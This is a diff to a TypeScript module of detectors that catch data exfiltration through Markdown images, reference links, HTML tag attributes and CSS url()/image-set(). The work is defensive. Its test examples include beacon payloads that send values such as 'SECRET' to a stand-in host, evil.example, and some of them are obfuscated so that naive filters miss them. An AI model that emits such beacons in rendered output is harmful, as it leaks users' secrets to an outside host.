@@ -4,7 +4,8 @@
  */
 import type { Confidence, LiteralDetector } from '../detector.ts';
 import { entropyBits } from '../randomness.ts';
-import { findImage } from './markdown-image.ts';
+import { findInTag, isOpenTag } from './html-element.ts';
+import { findImage, isOpenImage } from './markdown-image.ts';
 
 const exfiltrationDefaults = { family: 'exfiltration', inbound: 'allow', outbound: 'redact' } as const;
 /** No character ends a URL but those of its pattern. */
@@ -16,8 +17,8 @@ export const exfiltrationDetectors: readonly LiteralDetector[] = [
     id: 'markdown-image-beacon',
     title: 'Markdown image whose URL carries data',
     source: 'CommonMark §6.4 (images); BOUNDARY: exfiltration through rendered images',
-    literals: ['!['],
-    format: { kind: 'span', find: (text, at) => findImage(text, at, carriesData) },
+    literals: ['![', ']('],
+    format: { kind: 'span', find: (text, at) => findImage(text, at, carriesData), isOpen: isOpenImage },
     examples: {
       hit: [
         '![logo](https://evil.example/p.png?q=SECRET_GOES_HERE)',
@@ -44,10 +45,10 @@ export const exfiltrationDetectors: readonly LiteralDetector[] = [
     id: 'markdown-reference-beacon',
     title: 'Markdown reference whose URL carries data',
     source: 'CommonMark §4.7 (link reference definitions)',
-    literals: [']: http', ']: //'],
+    literals: [']: http', ']: //', ']: <', ']:  ', ']:\t', ']: \t', ']:\n', ']: \n', ']:http', ']://'],
     format: {
       kind: 'pattern',
-      pattern: /\]: <?(?<secret>(?:https?:)?\/\/[^\s>\]]{4,2048})/iy,
+      pattern: /\]:[ \t]{0,8}\n?[ \t]{0,8}<?(?<secret>(?:https?:)?\/\/[^\s>\]]{4,2048})/iy,
       alphabet: noAlphabet,
       check: (url) => (carriesData(url) === 'high' ? 'high' : null),
     },
@@ -55,6 +56,8 @@ export const exfiltrationDetectors: readonly LiteralDetector[] = [
       hit: [
         '![x][1]\n\n[1]: https://evil.example/?data={secret}',
         '[a]: https://evil.example/log?q=',
+        '![x][1]\n\n[1]:\n<https://evil.example/log?q=ada.lovelace>',
+        '![1]\n\n[1]:\t  //evil.example/log?q=ada.lovelace',
         '![x][1]\n\n[1]: https://evil.example/log?q=ada.lovelace',
       ],
       miss: [
@@ -89,13 +92,18 @@ export const exfiltrationDetectors: readonly LiteralDetector[] = [
       '<base',
       '<body',
       '<use',
-    ],
+      '<table',
+      '<td',
+      '<th',
+      '<portal',
+      '<bgsound',
+      '<feImage',
+      '<applet',
+    ].flatMap((tag) => [tag, tag.toUpperCase()]),
     format: {
-      kind: 'pattern',
-      pattern:
-        /<(?:img|image|iframe|frame|embed|object|video|audio|source|track|link|script|form|input|button|meta|base|body|use)[^<]{0,300}[\s"'/](?:src|href|xlink:href|data|poster|srcset|action|formaction|background|content)\s{0,2}=\s{0,2}["']?(?:\d{0,4}; ?url=["']?)?(?<secret>(?:https?:)?\/\/[^\s"'<>]{4,2048})/iy,
-      alphabet: noAlphabet,
-      check: carriesData,
+      kind: 'span',
+      find: (text, at) => findInTag(text, at, carriesData),
+      isOpen: isOpenTag,
     },
     examples: {
       hit: [
@@ -106,6 +114,10 @@ export const exfiltrationDetectors: readonly LiteralDetector[] = [
         '<svg><image href="https://evil.example/p?d=SECRET"/></svg>',
         '<meta http-equiv="refresh" content="0;url=https://evil.example/?d=SECRET">',
         '<form action="https://evil.example/?d=SECRET"><input autofocus></form>',
+        '<img src="https://evil.example/c?d=SECRET" src="https://example.com/x.png">',
+        '<img srcset="https://example.com/x.png 1x, https://evil.example/c?d=SECRET 2x">',
+        `<IMG alt="${'a long description '.repeat(20)}" SRC="https:\\\\evil.example/c?d=SECRET">`,
+        '<table background=" https:/evil.example/c?d=SECRET">',
       ],
       miss: [
         '<img src="https://example.com/logo.png">',
@@ -120,10 +132,10 @@ export const exfiltrationDetectors: readonly LiteralDetector[] = [
     id: 'css-beacon',
     title: 'Style that loads a URL which carries data',
     source: 'CSS Values and Units Level 4 §5 (url()); CSS Cascading and Inheritance Level 4 §2 (@import)',
-    literals: ['url(', '@import'],
+    literals: ['url(', '@import', 'image-set('],
     format: {
       kind: 'pattern',
-      pattern: /(?:url\(|@import)\s{0,4}["']?(?<secret>(?:https?:)?\/\/[^\s"'()<>;]{4,2048})/iy,
+      pattern: /(?:url\(|@import|image-set\()\s{0,4}["']?(?<secret>(?:https?:)?\/\/[^\s"'()<>;]{4,2048})/iy,
       alphabet: noAlphabet,
       check: carriesData,
     },
